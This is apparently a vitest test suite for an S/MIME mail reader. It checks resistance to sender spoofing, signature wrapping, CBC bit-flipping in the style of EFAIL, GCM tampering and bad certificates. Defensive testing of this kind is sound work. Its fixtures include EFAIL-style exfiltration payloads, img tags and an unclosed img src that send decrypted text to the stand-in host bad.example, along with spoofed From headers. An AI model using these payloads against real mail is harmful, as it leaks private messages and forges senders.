import { describe, expect, it } from 'vitest';
import {
  createMailAuthority,
  type MailIdentity,
  type MailWishes,
  onlyDomains,
  strangeExtension,
} from '../../support/mail-authority.ts';
import { attributesAsContent, fingerprintOf, withoutSigners } from './forge.ts';
import { pemOf, runOpenssl } from './openssl.ts';
import { readSmime, toldOf } from './read-smime.ts';
import { cmsOf, encrypted, htmlEntity, mail, opaque, signed, textEntity } from './write-smime.ts';

const day = 86_400_000;
const root = createMailAuthority();
const ana = root.issue({ address: 'ana@mail.example', name: 'Ana Ruiz' });
const eve = root.issue({ address: 'eve@bad.example', name: 'Ana Ruiz' });
const desk = root.issue({ address: 'desk@clinic.example' });
const deskRsa = root.issue({ address: 'desk@clinic.example', key: 'rsa' });
const ours = { identities: [desk, deskRsa], ownRoots: [root.certificate] };
const told = async (source: Uint8Array, smime: Parameters<typeof readSmime>[1] = ours) =>
  toldOf(await readSmime(source, smime));
const secret = 'Half a tablet in the evening.';

describe('honest mail, for control', () => {
  it.each(['detached', 'opaque'] as const)('signed, %s, has a tick', async (form) => {
    expect(await told(mail(await signed(textEntity(secret), ana, form)))).toBe('signed verified signature trusted');
  });

  it.each([
    ['cbc', desk, 'signature'],
    ['cbc', deskRsa, 'signature'],
    ['gcm', desk, 'encryption'],
    ['gcm', deskRsa, 'encryption'],
  ] as const)('encrypted in %s and signed inside, has a tick', async (cipher, to, integrity) => {
    const source = mail(await encrypted(await signed(htmlEntity(`<p>${secret}</p>`), ana), to, cipher));
    const message = await readSmime(source, ours);
    expect(toldOf(message)).toBe(`encrypted verified ${integrity} trusted`);
    expect(message.html).toContain(secret);
  });
});

describe('somebody else', () => {
  it('who signs with a certificate of their own is a mismatch', async () => {
    expect(await told(mail(await signed(textEntity(secret), eve)))).toBe('signed mismatch signature trusted');
    const inside = await signed(textEntity(secret), eve);
    expect(await told(mail(await encrypted(inside, desk)))).toBe('encrypted mismatch signature trusted');
  });

  it.each([
    ['two From fields', 'From: ana@mail.example\r\nFrom: eve@bad.example'],
    ['two From fields, hers last', 'From: eve@bad.example\r\nFrom: ana@mail.example'],
    ['two addresses in one', 'From: ana@mail.example, eve@bad.example'],
    ['her address as a name', 'From: "ana@mail.example" <eve@bad.example>'],
    ['her address before a NUL', 'From: ana@mail.example\0@bad.example'],
    ['no From', 'Sender: ana@mail.example'],
  ])('who writes %s gets no tick', async (_name, from) => {
    expect(await told(mail(await signed(textEntity(secret), ana), from))).not.toContain('verified');
  });

  it('whose protected From differs from the one outside is told of', async () => {
    const inside = Buffer.concat([
      Buffer.from('From: ana@mail.example\r\nSubject: other\r\n'),
      Buffer.from('Content-Type: text/plain; hp="cipher"\r\n\r\nwords\r\n'),
    ]);
    const source = mail(await encrypted(await signed(inside, ana), desk), 'eve@bad.example');
    const message = await readSmime(source, ours);
    expect(toldOf(message)).toBe('encrypted mismatch signature trusted');
    expect(message.warnings).toContain('protected-from-differs');
  });

  it('who is vouched for by a name alone is not the sender', async () => {
    const named = root.issue({ address: 'other@mail.example', name: 'ana@mail.example' });
    expect(await told(mail(await signed(textEntity(secret), named)))).toBe('signed mismatch signature trusted');
  });
});

describe('a signature that covers something else', () => {
  it('is invalid over changed text', async () => {
    const entity = (await signed(textEntity(secret), ana)).toString('latin1').replace('Half', 'Five');
    expect(await told(mail(Buffer.from(entity, 'latin1')))).toBe('signed invalid none trusted');
  });

  it('is invalid over another part, and none beside a third part', async () => {
    const entity = (await signed(textEntity(secret), ana)).toString('latin1');
    const boundary = /boundary="([^"]+)"/.exec(entity)?.[1] ?? '';
    const [head = '', part = '', ...rest] = entity.split(`--${boundary}`);
    const other = '\r\nContent-Type: text/plain\r\n\r\nSend all money elsewhere.\r\n\r\n';
    const swapped = [head, other, ...rest].join(`--${boundary}`);
    expect(await told(mail(Buffer.from(swapped, 'latin1')))).toBe('signed invalid none trusted');
    const added = [head, other, part, ...rest].join(`--${boundary}`);
    expect(await told(mail(Buffer.from(added, 'latin1')))).toBe('plain');
  });

  it('is none inside a foreign multipart, where only a part is signed', async () => {
    const part = await signed(textEntity(secret), ana);
    const foreign = inForeign(part);
    const message = await readSmime(mail(foreign), ours);
    expect(toldOf(message)).toBe('plain');
    expect(message.text).toContain('Send all money elsewhere.');
  });

  it('is invalid when the signed attributes are passed off as the content', async () => {
    // The signature stays as it is; what it was made over becomes the message, and the attributes are left out.
    const cms = cmsOf(await signed(textEntity(secret), ana, 'opaque'));
    const forged = attributesAsContent(cms);
    expect((await told(mail(opaque(forged, 'signed-data')))).startsWith('signed invalid')).toBe(true);
  });

  it('is invalid where the signer was taken out of an opaque message', async () => {
    const forged = withoutSigners(cmsOf(await signed(textEntity(secret), ana, 'opaque')));
    const message = await readSmime(mail(opaque(forged, 'signed-data')), ours);
    expect(toldOf(message)).toBe('signed invalid none -');
    expect(message.text).toBe(secret);
  });
});

describe('encrypted mail in strange hands', () => {
  it('stays closed inside a foreign multipart, and its text gets nowhere', async () => {
    const part = await encrypted(await signed(textEntity(secret), ana), desk, 'gcm');
    const message = await readSmime(mail(inForeign(part), 'eve@bad.example'), ours);
    expect(toldOf(message)).toBe('plain');
    expect(JSON.stringify({ ...message, attachments: [] })).not.toContain(secret);
    for (const { bytes } of message.attachments) expect(Buffer.from(bytes).toString('latin1')).not.toContain(secret);
  });

  it('in CBC shows only text where nothing inside is signed', async () => {
    const html = `<img src="https://bad.example/?${secret}"><a href="https://bad.example/">x</a>${secret}`;
    const message = await readSmime(mail(await encrypted(htmlEntity(html), desk)), ours);
    expect(toldOf(message)).toBe('encrypted none none -');
    expect(message.html).toBeNull();
    expect(message.text).toContain(secret);
  });

  it.each([0, 1, 2, 3, 4, 5])('in CBC changed at block %i is never shown as whole', async (block) => {
    const cms = cmsOf(await encrypted(await signed(htmlEntity(`<p>${secret.repeat(20)}</p>`), ana), desk));
    // Far enough from the end that the padding stays whole: the classic gadget of EFAIL.
    const at = cms.length - 200 - block * 16;
    cms[at] = (cms[at] ?? 0) ^ 0x01;
    const message = await readSmime(mail(opaque(cms, 'enveloped-data')), ours);
    expect(toldOf(message)).not.toContain('verified');
    expect(toldOf(message)).not.toContain('signature');
    expect(message.html).toBeNull();
  });

  it.each([1, 60, 200, 400])('in GCM changed %i bytes before its end does not open', async (fromEnd) => {
    const cms = cmsOf(await encrypted(await signed(textEntity(secret), ana), desk, 'gcm'));
    const at = cms.length - fromEnd;
    cms[at] = (cms[at] ?? 0) ^ 0x01;
    expect(await told(mail(opaque(cms, 'authEnveloped-data')))).toBe('unopenable damaged');
  });

  it('in GCM passed off as CBC does not open', async () => {
    const cms = cmsOf(await encrypted(await signed(textEntity(secret), ana), desk, 'gcm'));
    const gcm = Buffer.from('60864801650304012e', 'hex');
    const at = cms.indexOf(gcm);
    expect(at).toBeGreaterThan(0);
    Buffer.from('60864801650304012a', 'hex').copy(cms, at);
    expect((await told(mail(opaque(cms, 'authEnveloped-data')))).startsWith('unopenable')).toBe(true);
  });

  it('is not for us where another certificate is named, and damaged where the key is another', async () => {
    const source = mail(await encrypted(textEntity(secret), eve));
    expect(await told(source)).toBe('unopenable not-for-us');
    const wrong: MailIdentity = { ...eve, privateKey: desk.privateKey };
    expect(await told(source, { ...ours, identities: [wrong] })).toBe('unopenable damaged');
  });
});

describe('a certificate that nobody should believe', () => {
  const strangers = createMailAuthority();
  const signedBy = async (identity: MailIdentity, now = Date.now()) =>
    mail(await signed(textEntity(secret), identity, 'opaque', now));
  const issued = (more: Partial<MailWishes>) => root.issue({ address: 'ana@mail.example', ...more });

  it('of an unknown root leaves the signer open, whatever it calls itself', async () => {
    const same = createMailAuthority('Postern mail root').issue({ address: 'ana@mail.example' });
    expect(await told(await signedBy(same))).toBe('signed unknown signature unknown-issuer');
    expect(await told(await signedBy(strangers.issue({ address: 'ana@mail.example' })))).toBe(
      'signed unknown signature unknown-issuer',
    );
  });

  it('that ran out long ago gets no full tick for a signature dated back to its days', async () => {
    const inside = [
      'From: ana@mail.example',
      'To: desk@clinic.example',
      'Subject: hello',
      `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`,
      'Content-Type: text/plain; hp="clear"',
      '',
      'words',
      '',
    ].join('\r\n');
    const read = async (by: MailIdentity, at: number) =>
      (await readSmime(mail(await signed(Buffer.from(inside), by, 'detached', at), 'ana@mail.example'), ours)).status;
    const now = Date.now();
    expect(await read(issued({}), now)).toMatchObject({ signer: 'verified', covers: 'message' });
    const ended = issued({ from: new Date(now - 80 * day), until: new Date(now - 50 * day) });
    expect(await read(ended, now - 60 * day)).toMatchObject({ signer: 'verified', covers: 'text' });
  });

  it('that was expired when it signed is invalid; one that expired since is not', async () => {
    const short = issued({ from: new Date(Date.now() - 30 * day), until: new Date(Date.now() - 5 * day) });
    const then = await signedBy(short, Date.now() - 10 * day);
    expect(await told(then)).toBe('signed verified signature trusted');
    // Our own signing refuses it, so openssl does it.
    const now = signWithOpenssl(short, textEntity(secret));
    expect(await told(now)).toBe('signed invalid signature expired');
  });

  it('that is not valid yet, or signed in the future, is invalid', async () => {
    const later = issued({ from: new Date(Date.now() + 3 * day) });
    expect(await told(signWithOpenssl(later, textEntity(secret)))).toBe('signed invalid signature not-yet-valid');
    expect(await told(await signedBy(ana, Date.now() + 3 * day))).toBe('signed invalid signature trusted');
  });

  it.each<[string, Partial<MailWishes>, string]>([
    ['made for servers', { purposes: ['1.3.6.1.5.5.7.3.1'] }, 'signed invalid signature wrong-usage'],
    [
      'with a critical extension nobody knows',
      { more: [strangeExtension(true)] },
      'signed unknown signature broken-chain',
    ],
    [
      'with a strange extension that is not critical',
      { more: [strangeExtension(false)] },
      'signed verified signature trusted',
    ],
    ['without named purposes', { purposes: null }, 'signed verified signature trusted'],
  ])('%s is judged', async (_name, wishes, expected) => {
    expect(await told(signWithOpenssl(issued(wishes), textEntity(secret)))).toBe(expected);
  });

  it('of an authority that is none, is bound to other domains, or has ended is not vouched for', async () => {
    const none = root.below('No authority', { isAuthority: false }).issue({ address: 'ana@mail.example' });
    expect(await told(await signedBy(none))).toMatch(/^signed unknown signature (broken-chain|unknown-issuer)$/);
    const bound = root.below('Other domains', { more: [onlyDomains('lakeside.example')] });
    expect(await told(await signedBy(bound.issue({ address: 'ana@mail.example' })))).toBe(
      'signed unknown signature broken-chain',
    );
    const within = bound.issue({ address: 'mina@lakeside.example' });
    expect(await told(mail(await signed(textEntity(secret), within), 'mina@lakeside.example'))).toBe(
      'signed verified signature trusted',
    );
    const ended = root.below('Ended', { until: new Date(Date.now() - day) });
    expect(await told(await signedBy(ended.issue({ address: 'ana@mail.example' })))).toBe(
      'signed unknown signature broken-chain',
    );
  });

  it('with a short key is invalid', async () => {
    const short = issued({ key: 'rsa-1024' });
    expect(await told(signWithOpenssl(short, textEntity(secret)))).toBe('signed invalid signature weak');
    await expect(signedBy(short)).rejects.toThrow('certificate-unreadable');
    await expect(encrypted(textEntity(secret), short)).rejects.toThrow('certificate-unreadable');
  });

  it('kept by a person speaks for the address it was kept for, and for no other', async () => {
    const lone = strangers.issue({ address: 'ana@mail.example' });
    const kept = {
      fingerprint: fingerprintOf(lone),
      certificate: lone.certificate,
      chain: [],
      addresses: ['ana@mail.example'],
      compared: false,
    };
    const source = await signedBy(lone);
    expect(await told(source, { ...ours, candidates: [kept] })).toBe('signed verified signature kept');
    const other = { ...kept, addresses: ['mina@lakeside.example'] };
    expect(await told(source, { ...ours, candidates: [other] })).toBe('signed mismatch signature kept');
  });
});

function signWithOpenssl(identity: MailIdentity, entity: Uint8Array): Buffer {
  const args = ['cms', '-sign', '-in', 'in.eml', '-signer', 'id.pem', '-nodetach', '-md', 'sha256', '-outform', 'DER'];
  const cms = runOpenssl([...args, '-binary'], { 'in.eml': entity, 'id.pem': pemOf(identity) });
  return mail(opaque(cms, 'signed-data'));
}

function inForeign(part: Uint8Array): Buffer {
  const head = 'Content-Type: multipart/mixed; boundary=foreign\r\n\r\n--foreign\r\nContent-Type: text/plain\r\n\r\n';
  const text = 'Send all money elsewhere. <img src="https://bad.example/?\r\n--foreign\r\n';
  return Buffer.concat([Buffer.from(head + text, 'latin1'), part, Buffer.from('\r\n--foreign--\r\n', 'latin1')]);
}
